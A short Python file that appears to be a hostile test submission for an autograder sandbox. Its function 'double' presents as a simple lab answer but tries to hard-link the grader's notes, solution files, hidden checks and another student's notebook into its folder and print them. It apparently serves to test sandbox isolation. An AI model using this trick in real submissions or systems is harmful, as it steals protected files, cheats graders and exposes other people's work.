"""Makes hard links to secret files in its working folder: a second name needs no way through closed folders later."""
# bites: secret
import os

SECRETS = [
    "/srv/grader/notes.txt",
    "/tmp/hostile-secret.txt",
    "/tmp/hostile/course/solutions/lab01_hostile.py",
    "/tmp/hostile/course/autograder/checks/hidden/check_lab01_hostile.py",
    "/tmp/hostile/submissions/aaa_honest/lab01_hostile.ipynb",
]


def double(x):
    for number, target in enumerate(SECRETS):
        for follow in (True, False):
            path = f"linked-{number}-{follow}"
            try:
                os.link(target, path, follow_symlinks=follow)
            except (OSError, NotImplementedError):
                continue
            try:
                print(open(path).read())
            finally:
                os.unlink(path)
    return x
